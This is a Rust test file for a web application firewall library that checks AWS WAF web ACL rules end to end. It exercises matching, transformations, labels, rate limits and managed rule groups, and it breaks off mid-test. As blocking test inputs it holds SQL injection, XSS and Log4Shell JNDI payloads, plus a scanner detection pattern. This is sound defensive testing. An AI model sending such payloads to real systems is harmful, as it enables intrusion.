//! Web ACL semantics end to end: JSON in AWS's shape, a request, the verdict.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "tests"
)]

use std::sync::Arc;

use http::{HeaderMap, HeaderName, HeaderValue};
use portcullis_waf::acl::Outcome;
use portcullis_waf::ipset::IpSet;
use portcullis_waf::parse::{self, Catalog};
use portcullis_waf::{Env, Request, Verdict, WebAcl};
use serde_json::{Value, json};

struct Req {
    method: &'static str,
    path: String,
    query: String,
    headers: HeaderMap,
    ip: std::net::IpAddr,
    body: Vec<u8>,
    complete: bool,
}

fn req(target: &str) -> Req {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let mut headers = HeaderMap::new();
    headers.insert("host", HeaderValue::from_static("api.example.com"));
    headers.insert("user-agent", HeaderValue::from_static("curl/8.5.0"));
    Req {
        method: "GET",
        path: path.to_owned(),
        query: query.to_owned(),
        headers,
        ip: "198.51.100.7".parse().unwrap(),
        body: Vec::new(),
        complete: true,
    }
}

impl Req {
    fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.append(
            HeaderName::from_bytes(name.as_bytes()).unwrap(),
            HeaderValue::from_str(value).unwrap(),
        );
        self
    }
    fn body(mut self, method: &'static str, body: &str) -> Self {
        self.method = method;
        self.body = body.as_bytes().to_vec();
        self
    }
    fn from(mut self, ip: &str) -> Self {
        self.ip = ip.parse().unwrap();
        self
    }
    fn view(&self) -> Request<'_> {
        Request {
            method: self.method,
            path: &self.path,
            query: &self.query,
            headers: &self.headers,
            client_ip: self.ip,
            body: &self.body,
            body_complete: self.complete,
        }
    }
}

fn catalog() -> Catalog {
    let mut c = Catalog {
        account: "111122223333".to_owned(),
        ..Catalog::default()
    };
    c.ip_sets.insert(
        "office".to_owned(),
        Arc::new(parse::ip_set(&json!({"IPAddressVersion": "IPV4", "Addresses": ["192.0.2.0/24", "203.0.113.9/32"]})).unwrap()),
    );
    c.regex_sets.insert(
        "bots".to_owned(),
        Arc::new(parse::regex_set(&json!({"RegularExpressionList": [{"RegexString": "(?i)scanner"}, {"RegexString": "^sqlmap/"}]})).unwrap()),
    );
    c
}

fn acl_with(catalog: &Catalog, rules: Value) -> WebAcl {
    let doc = json!({
        "Name": "test",
        "DefaultAction": {"Allow": {}},
        "CustomResponseBodies": {"nope": {"ContentType": "APPLICATION_JSON", "Content": "{\"error\":\"blocked\"}"}},
        "Rules": rules,
        "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "test"}
    });
    parse::web_acl(&doc, "test", catalog).unwrap_or_else(|p| panic!("{p:?}"))
}

fn acl(rules: Value) -> WebAcl {
    acl_with(&catalog(), rules)
}

fn eval(acl: &WebAcl, r: &Req) -> Verdict {
    acl.evaluate(
        &r.view(),
        Env {
            geo: None,
            now_ms: 1_000_000,
        },
    )
}

fn blocked(acl: &WebAcl, r: &Req) -> bool {
    matches!(eval(acl, r).outcome, Outcome::Block(_))
}

fn rule(name: &str, priority: i64, statement: Value, action: &str) -> Value {
    json!({"Name": name, "Priority": priority, "Statement": statement, "Action": {action: {}},
           "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": name}})
}

fn byte(search: &str, field: Value, position: &str, transforms: &[&str]) -> Value {
    let t: Vec<Value> = transforms
        .iter()
        .enumerate()
        .map(|(i, t)| json!({"Priority": i, "Type": t}))
        .collect();
    let t = if t.is_empty() {
        vec![json!({"Priority": 0, "Type": "NONE"})]
    } else {
        t
    };
    json!({"ByteMatchStatement": {"SearchString": search, "FieldToMatch": field, "PositionalConstraint": position, "TextTransformations": t}})
}

#[test]
fn byte_match_on_every_simple_field() {
    let cases = [
        (json!({"UriPath": {}}), "/admin/x", "/admin"),
        (json!({"QueryString": {}}), "/p?debug=1&x=2", "debug=1"),
        (
            json!({"SingleQueryArgument": {"Name": "Mode"}}),
            "/p?mode=evil",
            "evil",
        ),
        (json!({"AllQueryArguments": {}}), "/p?a=1&b=evil", "evil"),
        (
            json!({"SingleHeader": {"Name": "User-Agent"}}),
            "/p",
            "curl",
        ),
        (json!({"Method": {}}), "/p", "GET"),
    ];
    for (field, target, needle) in cases {
        let a = acl(json!([rule(
            "r",
            0,
            byte(needle, field.clone(), "CONTAINS", &[]),
            "Block"
        )]));
        assert!(blocked(&a, &req(target)), "{field} on {target}");
        assert!(
            !blocked(&a, &req("/other?z=1").header("x", "y"))
                || field == json!({"SingleHeader": {"Name": "User-Agent"}})
                || field == json!({"Method": {}}),
            "{field} on a clean request"
        );
    }
}

#[test]
fn transformations_decode_before_matching() {
    let a = acl(json!([rule(
        "r",
        0,
        byte(
            "<script",
            json!({"AllQueryArguments": {}}),
            "CONTAINS",
            &["URL_DECODE", "HTML_ENTITY_DECODE", "LOWERCASE"]
        ),
        "Block"
    )]));
    assert!(blocked(&a, &req("/p?q=%3CScRiPt%3E")));
    assert!(blocked(&a, &req("/p?q=%26lt%3Bscript")));
    assert!(!blocked(&a, &req("/p?q=script")));
    // Without transformations the encoded form does not match: inspection is of the raw bytes.
    let raw = acl(json!([rule(
        "r",
        0,
        byte("<script", json!({"AllQueryArguments": {}}), "CONTAINS", &[]),
        "Block"
    )]));
    assert!(!blocked(&raw, &req("/p?q=%3Cscript")));
}

#[test]
fn a_terminating_allow_stops_evaluation_and_count_goes_on() {
    let a = acl(json!([
        rule(
            "count-it",
            0,
            byte("/x", json!({"UriPath": {}}), "STARTS_WITH", &[]),
            "Count"
        ),
        rule(
            "allow-office",
            1,
            json!({"IPSetReferenceStatement": {"ARN": "arn:aws:wafv2:us-east-1:111122223333:regional/ipset/office/0a1b2c"}}),
            "Allow"
        ),
        rule(
            "block-x",
            2,
            byte("/x", json!({"UriPath": {}}), "STARTS_WITH", &[]),
            "Block"
        ),
    ]));
    let v = eval(&a, &req("/x/1").from("192.0.2.10"));
    assert!(v.allowed());
    assert_eq!(v.terminating_rule.as_deref(), Some("allow-office"));
    let names: Vec<_> = v
        .matches
        .iter()
        .map(|m| (m.rule.as_str(), m.action))
        .collect();
    assert_eq!(names, [("count-it", "COUNT"), ("allow-office", "ALLOW")]);
    let v = eval(&a, &req("/x/1"));
    assert!(matches!(v.outcome, Outcome::Block(None)));
    assert_eq!(v.terminating_rule.as_deref(), Some("block-x"));
    let v = eval(&a, &req("/y"));
    assert!(v.allowed());
    assert!(v.terminating_rule.is_none() && v.matches.is_empty());
}

#[test]
fn rules_run_by_priority_not_by_position() {
    let a = acl(json!([
        rule(
            "block",
            5,
            byte("/x", json!({"UriPath": {}}), "STARTS_WITH", &[]),
            "Block"
        ),
        rule(
            "allow",
            1,
            byte("/x", json!({"UriPath": {}}), "STARTS_WITH", &[]),
            "Allow"
        ),
    ]));
    assert!(eval(&a, &req("/x")).allowed());
}

#[test]
fn labels_are_seen_by_later_rules_only() {
    let labelled = json!({"Name": "tag", "Priority": 1, "Statement": byte("evil", json!({"QueryString": {}}), "CONTAINS", &[]),
        "Action": {"Count": {}}, "RuleLabels": [{"Name": "suspicious:query"}],
        "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "tag"}});
    let a = acl(json!([
        rule(
            "early",
            0,
            json!({"LabelMatchStatement": {"Scope": "LABEL", "Key": "suspicious:query"}}),
            "Block"
        ),
        labelled,
        rule(
            "late",
            2,
            json!({"LabelMatchStatement": {"Scope": "NAMESPACE", "Key": "suspicious:"}}),
            "Block"
        ),
    ]));
    let v = eval(&a, &req("/p?q=evil"));
    assert_eq!(v.terminating_rule.as_deref(), Some("late"));
    assert_eq!(
        &*v.labels[0],
        "awswaf:111122223333:webacl:test:suspicious:query"
    );
    assert!(eval(&a, &req("/p?q=fine")).allowed());
}

#[test]
fn block_answers_with_the_custom_response() {
    let r = json!({"Name": "b", "Priority": 0, "Statement": byte("/x", json!({"UriPath": {}}), "EXACTLY", &[]),
        "Action": {"Block": {"CustomResponse": {"ResponseCode": 429, "CustomResponseBodyKey": "nope",
            "ResponseHeaders": [{"Name": "x-why", "Value": "rule b"}]}}},
        "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "b"}});
    let a = acl(json!([r]));
    let Outcome::Block(Some(resp)) = eval(&a, &req("/x")).outcome else {
        panic!("not a custom block")
    };
    assert_eq!(resp.status, 429);
    assert_eq!(resp.headers, [("x-why".to_owned(), "rule b".to_owned())]);
    let (ct, content) = resp.body.clone().unwrap();
    assert_eq!(ct, "application/json");
    assert_eq!(&*content, "{\"error\":\"blocked\"}");
}

#[test]
fn count_and_allow_insert_request_headers_last_one_wins() {
    let with = |name: &str, p: i64, action: &str, value: &str| {
        json!({"Name": name, "Priority": p, "Statement": byte("/", json!({"UriPath": {}}), "STARTS_WITH", &[]),
            "Action": {action: {"CustomRequestHandling": {"InsertHeaders": [{"Name": "Tier", "Value": value}]}}},
            "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": name}})
    };
    let a = acl(json!([
        with("c", 0, "Count", "one"),
        with("a", 1, "Allow", "two")
    ]));
    let v = eval(&a, &req("/p"));
    assert_eq!(
        v.insert_headers,
        [("x-amzn-waf-tier".to_owned(), "two".to_owned())]
    );
}

#[test]
fn captcha_and_challenge_terminate_for_a_client_without_a_token() {
    let a = acl(json!([
        rule(
            "c",
            0,
            byte("/login", json!({"UriPath": {}}), "EXACTLY", &[]),
            "Captcha"
        ),
        rule(
            "h",
            1,
            byte("/signup", json!({"UriPath": {}}), "EXACTLY", &[]),
            "Challenge"
        )
    ]));
    assert!(matches!(eval(&a, &req("/login")).outcome, Outcome::Captcha));
    assert!(matches!(
        eval(&a, &req("/signup")).outcome,
        Outcome::Challenge
    ));
}

#[test]
fn default_block_applies_when_nothing_terminates() {
    let doc = json!({"Name": "deny-all", "DefaultAction": {"Block": {}}, "Rules": [
        rule("office", 0, json!({"IPSetReferenceStatement": {"ARN": "office"}}), "Allow")],
        "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "deny-all"}});
    let a = parse::web_acl(&doc, "deny-all", &catalog()).unwrap();
    assert!(blocked(&a, &req("/p")));
    assert!(!blocked(&a, &req("/p").from("203.0.113.9")));
}

#[test]
fn forwarded_ip_positions_and_fallback() {
    let st = |position: &str, fallback: &str| {
        json!({"IPSetReferenceStatement": {"ARN": "office", "IPSetForwardedIPConfig": {
            "HeaderName": "X-Forwarded-For", "FallbackBehavior": fallback, "Position": position}}})
    };
    let first = acl(json!([rule("r", 0, st("FIRST", "NO_MATCH"), "Block")]));
    let last = acl(json!([rule("r", 0, st("LAST", "NO_MATCH"), "Block")]));
    let any = acl(json!([rule("r", 0, st("ANY", "NO_MATCH"), "Block")]));
    let fb = acl(json!([rule("r", 0, st("FIRST", "MATCH"), "Block")]));
    let chain = req("/").header("x-forwarded-for", "192.0.2.1, 10.0.0.1, 10.0.0.2");
    assert!(blocked(&first, &chain));
    assert!(!blocked(&last, &chain));
    assert!(blocked(&any, &chain));
    let tail = req("/").header("x-forwarded-for", "10.0.0.1, 203.0.113.9");
    assert!(!blocked(&first, &tail) && blocked(&last, &tail) && blocked(&any, &tail));
    // No header, or an invalid address: the fallback decides.
    assert!(
        !blocked(&first, &req("/").from("192.0.2.1")),
        "the peer address is not used"
    );
    assert!(blocked(&fb, &req("/")));
    assert!(blocked(
        &fb,
        &req("/").header("x-forwarded-for", "not-an-ip")
    ));
    assert!(!blocked(
        &first,
        &req("/").header("x-forwarded-for", "not-an-ip")
    ));
}

#[test]
fn regex_and_regex_sets() {
    let a = acl(json!([
        rule(
            "r",
            0,
            json!({"RegexPatternSetReferenceStatement": {"ARN": "arn:aws:wafv2:us-east-1:111122223333:regional/regexpatternset/bots/1234",
        "FieldToMatch": {"SingleHeader": {"Name": "user-agent"}}, "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}),
            "Block"
        ),
        rule(
            "r2",
            1,
            json!({"RegexMatchStatement": {"RegexString": "^/v[0-9]+/internal", "FieldToMatch": {"UriPath": {}},
        "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}),
            "Block"
        )
    ]));
    assert!(blocked(
        &a,
        &req("/").header("user-agent", "My-Scanner 1.0")
    ));
    assert!(blocked(&a, &req("/v2/internal/x")));
    assert!(!blocked(&a, &req("/v2/public")));
}

#[test]
fn size_constraints_measure_after_transformations() {
    let a = acl(json!([rule(
        "r",
        0,
        json!({"SizeConstraintStatement": {"FieldToMatch": {"QueryString": {}}, "ComparisonOperator": "GT", "Size": 5,
        "TextTransformations": [{"Priority": 0, "Type": "URL_DECODE"}]}}),
        "Block"
    )]));
    assert!(blocked(&a, &req("/?abcdef")));
    assert!(!blocked(&a, &req("/?%41%42%43")), "decoded to 3 bytes");
}

#[test]
fn body_oversize_handling() {
    let st = |handling: &str| {
        json!({"ByteMatchStatement": {"SearchString": "needle", "FieldToMatch": {"Body": {"OversizeHandling": handling}},
        "PositionalConstraint": "CONTAINS", "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}})
    };
    let big = "a".repeat(20 * 1024) + "needle";
    let small_hit = req("/").body("POST", "has a needle");
    let late = req("/").body("POST", &big);
    for (handling, on_late) in [("CONTINUE", false), ("MATCH", true), ("NO_MATCH", false)] {
        let a = acl(json!([rule("r", 0, st(handling), "Block")]));
        assert!(blocked(&a, &small_hit), "{handling}");
        assert_eq!(
            blocked(&a, &late),
            on_late,
            "{handling}: the needle is past the 16 KB inspected"
        );
    }
    let early = req("/").body("POST", &("needle".to_owned() + &"a".repeat(20 * 1024)));
    let a = acl(json!([rule("r", 0, st("NO_MATCH"), "Block")]));
    assert!(
        !blocked(&a, &early),
        "NO_MATCH does not inspect an oversize body at all"
    );
}

#[test]
fn json_body_scope_paths_and_invalid_fallback() {
    let st = |pattern: Value, scope: &str, invalid: Option<&str>| {
        let mut jb = json!({"MatchPattern": pattern, "MatchScope": scope});
        if let Some(i) = invalid {
            jb["InvalidFallbackBehavior"] = json!(i);
        }
        json!({"ByteMatchStatement": {"SearchString": "admin", "FieldToMatch": {"JsonBody": jb},
            "PositionalConstraint": "EXACTLY", "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}})
    };
    let doc = r#"{"user": {"role": "admin"}, "admin": false, "tags": ["x"]}"#;
    let r = req("/").body("POST", doc);
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"All": {}}), "VALUE", None),
            "Block"
        )])),
        &r
    ));
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"All": {}}), "KEY", None),
            "Block"
        )])),
        &r
    ));
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"IncludedPaths": ["/user"]}), "VALUE", None),
            "Block"
        )])),
        &r
    ));
    assert!(!blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"IncludedPaths": ["/tags"]}), "ALL", None),
            "Block"
        )])),
        &r
    ));
    let no_key = req("/").body("POST", r#"{"user": {"role": "reader"}, "admin": false}"#);
    assert!(!blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"All": {}}), "VALUE", None),
            "Block"
        )])),
        &no_key
    ));
    // Invalid JSON: tokens before the error are inspected; the fallback decides the rest.
    let broken = req("/").body("POST", r#"{"role": "admin", oops"#);
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"All": {}}), "VALUE", None),
            "Block"
        )])),
        &broken
    ));
    let broken_late = req("/").body("POST", r#"{"x": 1, oops "admin"}"#);
    assert!(!blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"All": {}}), "VALUE", None),
            "Block"
        )])),
        &broken_late
    ));
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"All": {}}), "VALUE", Some("MATCH")),
            "Block"
        )])),
        &broken_late
    ));
    assert!(!blocked(
        &acl(json!([rule(
            "r",
            0,
            st(json!({"All": {}}), "VALUE", Some("NO_MATCH")),
            "Block"
        )])),
        &broken_late
    ));
    let as_string = acl(json!([rule(
        "r",
        0,
        json!({"ByteMatchStatement": {"SearchString": "admin", "FieldToMatch": {"JsonBody": {
        "MatchPattern": {"All": {}}, "MatchScope": "VALUE", "InvalidFallbackBehavior": "EVALUATE_AS_STRING"}},
        "PositionalConstraint": "CONTAINS", "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}),
        "Block"
    )]));
    assert!(blocked(&as_string, &broken_late));
}

#[test]
fn headers_and_cookies_with_patterns_and_scopes() {
    let headers = |pattern: Value, scope: &str| {
        json!({"ByteMatchStatement": {"SearchString": "secret", "FieldToMatch": {"Headers": {
        "MatchPattern": pattern, "MatchScope": scope, "OversizeHandling": "CONTINUE"}},
        "PositionalConstraint": "CONTAINS", "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}]}})
    };
    let r = req("/")
        .header("X-Secret-Token", "abc")
        .header("x-note", "top SECRET");
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            headers(json!({"All": {}}), "KEY"),
            "Block"
        )])),
        &r
    ));
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            headers(json!({"IncludedHeaders": ["X-Note"]}), "VALUE"),
            "Block"
        )])),
        &r
    ));
    assert!(!blocked(
        &acl(json!([rule(
            "r",
            0,
            headers(json!({"ExcludedHeaders": ["x-note"]}), "VALUE"),
            "Block"
        )])),
        &r
    ));
    let cookies = |pattern: Value, scope: &str| {
        json!({"ByteMatchStatement": {"SearchString": "evil", "FieldToMatch": {"Cookies": {
        "MatchPattern": pattern, "MatchScope": scope, "OversizeHandling": "CONTINUE"}},
        "PositionalConstraint": "EXACTLY", "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}})
    };
    let r = req("/")
        .header("cookie", "session=abc; pref=evil")
        .header("cookie", "evil=1");
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            cookies(json!({"IncludedCookies": ["pref"]}), "VALUE"),
            "Block"
        )])),
        &r
    ));
    assert!(
        !blocked(
            &acl(json!([rule(
                "r",
                0,
                cookies(json!({"IncludedCookies": ["Pref"]}), "VALUE"),
                "Block"
            )])),
            &r
        ),
        "cookie names are case sensitive"
    );
    assert!(blocked(
        &acl(json!([rule(
            "r",
            0,
            cookies(json!({"All": {}}), "KEY"),
            "Block"
        )])),
        &r
    ));
    assert!(!blocked(
        &acl(json!([rule(
            "r",
            0,
            cookies(json!({"ExcludedCookies": ["pref"]}), "VALUE"),
            "Block"
        )])),
        &r
    ));
}

#[test]
fn header_order_is_the_names_joined_with_colons() {
    let a = acl(json!([rule(
        "r",
        0,
        byte(
            "host:user-agent:accept",
            json!({"HeaderOrder": {"OversizeHandling": "CONTINUE"}}),
            "EXACTLY",
            &[]
        ),
        "Block"
    )]));
    assert!(blocked(&a, &req("/").header("accept", "*/*")));
    assert!(!blocked(
        &a,
        &req("/").header("x-other", "1").header("accept", "*/*")
    ));
}

#[test]
fn and_or_not() {
    let a = acl(json!([
        rule(
            "r",
            0,
            json!({"AndStatement": {"Statements": [
                byte("/admin", json!({"UriPath": {}}), "STARTS_WITH", &[]),
                {"NotStatement": {"Statement": {"IPSetReferenceStatement": {"ARN": "office"}}}}
            ]}}),
            "Block"
        ),
        rule(
            "o",
            1,
            json!({"OrStatement": {"Statements": [
                byte("DELETE", json!({"Method": {}}), "EXACTLY", &[]),
                byte("/danger", json!({"UriPath": {}}), "EXACTLY", &[])
            ]}}),
            "Block"
        )
    ]));
    assert!(blocked(&a, &req("/admin/users")));
    assert!(!blocked(&a, &req("/admin/users").from("192.0.2.5")));
    assert!(blocked(&a, &req("/danger")));
    assert!(!blocked(&a, &req("/safe")));
}

#[test]
fn sqli_and_xss_statements() {
    let t = json!([{"Priority": 0, "Type": "URL_DECODE"}, {"Priority": 1, "Type": "HTML_ENTITY_DECODE"}]);
    let a = acl(json!([
        rule(
            "s",
            0,
            json!({"SqliMatchStatement": {"FieldToMatch": {"AllQueryArguments": {}}, "TextTransformations": t, "SensitivityLevel": "LOW"}}),
            "Block"
        ),
        rule(
            "x",
            1,
            json!({"XssMatchStatement": {"FieldToMatch": {"Body": {}}, "TextTransformations": t}}),
            "Block"
        ),
    ]));
    assert!(blocked(&a, &req("/p?id=1%27%20OR%201%3D1--")));
    assert!(!blocked(&a, &req("/p?name=O%27Brien")));
    assert!(blocked(
        &a,
        &req("/").body("POST", "<img src=x onerror=alert(1)>")
    ));
    assert!(!blocked(&a, &req("/").body("POST", "I like 3 < 4 & 5 > 2")));
}

#[test]
fn rate_based_rules_limit_per_key_within_the_window() {
    let st = json!({"RateBasedStatement": {"Limit": 10, "EvaluationWindowSec": 60, "AggregateKeyType": "CUSTOM_KEYS",
        "CustomKeys": [{"Header": {"Name": "x-api-client", "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}]}}, {"HTTPMethod": {}}],
        "ScopeDownStatement": byte("/login", json!({"UriPath": {}}), "STARTS_WITH", &[])}});
    let a = acl(json!([rule("rate", 0, st, "Block")]));
    let at = |r: &Req, ms: u64| {
        matches!(
            a.evaluate(
                &r.view(),
                Env {
                    geo: None,
                    now_ms: ms
                }
            )
            .outcome,
            Outcome::Block(_)
        )
    };
    let alice = req("/login").header("x-api-client", "Alice");
    let alice_upper = req("/login").header("x-api-client", "ALICE");
    for i in 0..10 {
        assert!(
            !at(if i % 2 == 0 { &alice } else { &alice_upper }, 1_000 + i),
            "request {i} is within the limit"
        );
    }
    assert!(at(&alice, 2_000), "the 11th in the window is over");
    assert!(
        !at(&req("/login").header("x-api-client", "bob"), 2_000),
        "another key"
    );
    assert!(
        !at(&req("/login"), 2_000),
        "a request without the key is not limited"
    );
    assert!(
        !at(&req("/home").header("x-api-client", "alice"), 2_000),
        "outside the scope-down"
    );
    assert!(!at(&alice, 2_000 + 61_000), "the window has passed");
}

#[test]
fn rule_groups_with_overrides_and_count() {
    let mut c = catalog();
    let group = json!({"Name": "mine", "Capacity": 50, "Rules": [
        rule("no-admin", 0, byte("/admin", json!({"UriPath": {}}), "STARTS_WITH", &[]), "Block"),
        {"Name": "tag-debug", "Priority": 1, "Statement": byte("debug", json!({"QueryString": {}}), "CONTAINS", &[]), "Action": {"Count": {}},
         "RuleLabels": [{"Name": "debug"}], "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "d"}},
        rule("no-debug", 2, byte("debug", json!({"QueryString": {}}), "CONTAINS", &[]), "Block"),
    ], "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "mine"}});
    c.rule_groups.insert(
        "mine".to_owned(),
        Arc::new(parse::rule_group(&group, "mine", &c).unwrap()),
    );
    let use_group = |overrides: Value, over: &str| {
        json!({"Name": "g", "Priority": 0,
        "Statement": {"RuleGroupReferenceStatement": {"ARN": "arn:aws:wafv2:us-east-1:111122223333:regional/rulegroup/mine/abcd", "RuleActionOverrides": overrides}},
        "OverrideAction": {over: {}}, "VisibilityConfig": {"SampledRequestsEnabled": false, "CloudWatchMetricsEnabled": false, "MetricName": "g"}})
    };
    let after = rule(
        "after",
        1,
        json!({"LabelMatchStatement": {"Scope": "LABEL", "Key": "awswaf:111122223333:rulegroup:mine:debug"}}),
        "Challenge",
    );
    let a = acl_with(&c, json!([use_group(json!([]), "None"), after.clone()]));
    let v = eval(&a, &req("/admin"));
    assert_eq!(v.terminating_rule.as_deref(), Some("g:no-admin"));
    assert!(matches!(v.outcome, Outcome::Block(None)));
    let v = eval(&a, &req("/x?debug=1"));
    assert_eq!(
        v.terminating_rule.as_deref(),
        Some("g:no-debug"),
        "a terminating action in a group ends the web ACL"
    );
    let o = acl_with(
        &c,
        json!([
            use_group(
                json!([{"Name": "no-debug", "ActionToUse": {"Count": {}}}]),
                "None"
            ),
            after.clone()
        ]),
    );
    let v = eval(&o, &req("/x?debug=1"));
    assert!(
        matches!(v.outcome, Outcome::Challenge),
        "the group's label reached the later rule"
    );
    let counted = acl_with(&c, json!([use_group(json!([]), "Count")]));
    let v = eval(&counted, &req("/admin"));
    assert!(v.allowed());
    assert_eq!(v.matches[0].action, "COUNT");
}

#[test]
fn managed_groups_with_excluded_rules_and_scope_down() {
    let managed = |extra: Value| {
        let mut st = json!({"VendorName": "AWS", "Name": "AWSManagedRulesSQLiRuleSet"});
        for (k, v) in extra.as_object().unwrap() {
            st[k] = v.clone();
        }
        json!([{"Name": "AWS-AWSManagedRulesSQLiRuleSet", "Priority": 0, "Statement": {"ManagedRuleGroupStatement": st},
            "OverrideAction": {"None": {}}, "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "sqli"}}])
    };
    let attack = req("/p?id=1%27%20OR%201%3D1--");
    let a = acl(managed(json!({})));
    let v = eval(&a, &attack);
    assert_eq!(
        v.terminating_rule.as_deref(),
        Some("AWS-AWSManagedRulesSQLiRuleSet:SQLi_QUERYARGUMENTS")
    );
    assert_eq!(
        &*v.labels[0],
        "awswaf:managed:aws:sql-database:SQLi_QueryArguments"
    );
    let excluded = acl(managed(json!({"ExcludedRules": [
        {"Name": "SQLi_QUERYARGUMENTS"},
        {"Name": "SQLiExtendedPatterns_QUERYARGUMENTS"}
    ]})));
    let v = eval(&excluded, &attack);
    assert!(v.allowed(), "{v:?}");
    assert!(
        !v.matches.is_empty() && v.matches.iter().all(|m| m.action == "COUNT"),
        "excluded rules count: {v:?}"
    );
    let scoped = acl(managed(
        json!({"ScopeDownStatement": byte("/admin", json!({"UriPath": {}}), "STARTS_WITH", &[])}),
    ));
    assert!(
        eval(&scoped, &attack).allowed(),
        "outside the scope-down the group does not run"
    );
    assert!(!eval(&scoped, &req("/admin?id=1%27%20OR%201%3D1--")).allowed());
}

/// The User-Agent is one of the headers: rules on the headers and rules on the User-Agent
/// both judge it, whichever group comes first.
#[test]
fn header_rules_and_user_agent_rules_both_judge_the_user_agent() {
    let group = |name: &str, priority: u32| {
        json!({"Name": name, "Priority": priority,
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name}},
            "OverrideAction": {"Count": {}},
            "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": name}})
    };
    let mut r = req("/p");
    r.headers.insert(
        "user-agent",
        HeaderValue::from_static("sqlmap/1.7 ${jndi:ldap://203.0.113.9/a}"),
    );
    for order in [[0, 1], [1, 0]] {
        let a = acl(json!([
            group("AWSManagedRulesCommonRuleSet", order[0]),
            group("AWSManagedRulesKnownBadInputsRuleSet", order[1])
        ]));
        let v = eval(&a, &r);
        let names: Vec<&str> = v.matches.iter().map(|m| m.rule.as_str()).collect();
        assert!(
            names.contains(&"AWSManagedRulesCommonRuleSet:UserAgent_BadBots_HEADER"),
            "{names:?}"
        );
        assert!(
            names.contains(&"AWSManagedRulesKnownBadInputsRuleSet:Log4JRCE_HEADER"),
            "{names:?}"
        );
    }
}

fn problems(doc: Value) -> Vec<String> {
    match parse::web_acl(&doc, "test", &catalog()) {
        Ok(_) => Vec::new(),
        Err(p) => p.iter().map(ToString::to_string).collect(),
    }
}

#[test]
fn problems_come_with_their_json_paths() {
    let doc = json!({"Name": "test", "DefaultAction": {"Count": {}}, "Rules": [
        {"Name": "a", "Priority": 0, "Statement": {"ByteMatchStatement": {"SearchString": "x", "FieldToMatch": {"JA3Fingerprint": {"FallbackBehavior": "MATCH"}},
            "PositionalConstraint": "SOMEWHERE", "TextTransformations": [{"Priority": 0, "Type": "ROT13"}]}}, "Action": {"Block": {}}},
        {"Name": "a", "Priority": 0, "Statement": {"IPSetReferenceStatement": {"ARN": "arn:aws:wafv2:us-east-1:1:regional/ipset/missing/1"}}, "Action": {"Block": {}}},
        {"Name": "c", "Priority": 2, "Statement": {"AndStatement": {"Statements": [{"RateBasedStatement": {"Limit": 100}}, {"XssMatchStatement": {}}]}}, "Action": {"Block": {}}, "Surprise": 1},
        {"Name": "d", "Priority": 3, "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesNope"}}, "Action": {"Block": {}}},
        {"Name": "e", "Priority": 4, "Statement": {"GeoMatchStatement": {"CountryCodes": ["US"]}}, "Action": {"Block": {}}}
    ]});
    let got = problems(doc);
    let expect = [
        "DefaultAction: the default action is Allow or Block",
        "Rules[0].Statement.ByteMatchStatement.PositionalConstraint: `SOMEWHERE` is not one of EXACTLY, STARTS_WITH, ENDS_WITH, CONTAINS, CONTAINS_WORD",
        "Rules[0].Statement.ByteMatchStatement.FieldToMatch.JA3Fingerprint: `JA3Fingerprint` is not supported: TLS fingerprints are not inspected",
        "Rules[0].Statement.ByteMatchStatement.TextTransformations[0].Type: `ROT13` is not one of",
        "Rules[1].Statement.IPSetReferenceStatement.ARN: no IP set (under `waf.ip_sets`) named `missing`",
        "Rules[2].Surprise: unknown field `Surprise`",
        "Rules[2].Statement.AndStatement.Statements[0].RateBasedStatement: a rate-based statement can only be a rule's top statement",
        "Rules[2].Statement.AndStatement.Statements[1].XssMatchStatement: `FieldToMatch` is required",
        "Rules[3].Statement.ManagedRuleGroupStatement.Name: `AWSManagedRulesNope` is not a built-in managed rule group",
        "Rules[4].Statement.GeoMatchStatement: needs a country database",
    ];
    for e in expect {
        assert!(
            got.iter().any(|g| g.starts_with(e)),
            "missing {e:?} in {got:#?}"
        );
    }
}

#[test]
fn ip_sets_and_regex_sets_refuse_bad_entries() {
    let e = parse::ip_set(&json!({"IPAddressVersion": "IPV4", "Addresses": ["10.0.0.0/8", "2001:db8::/32", "300.1.1.1/32"]})).unwrap_err();
    let got: Vec<String> = e.iter().map(ToString::to_string).collect();
    assert!(got[0].starts_with("Addresses[1]:"), "{got:?}");
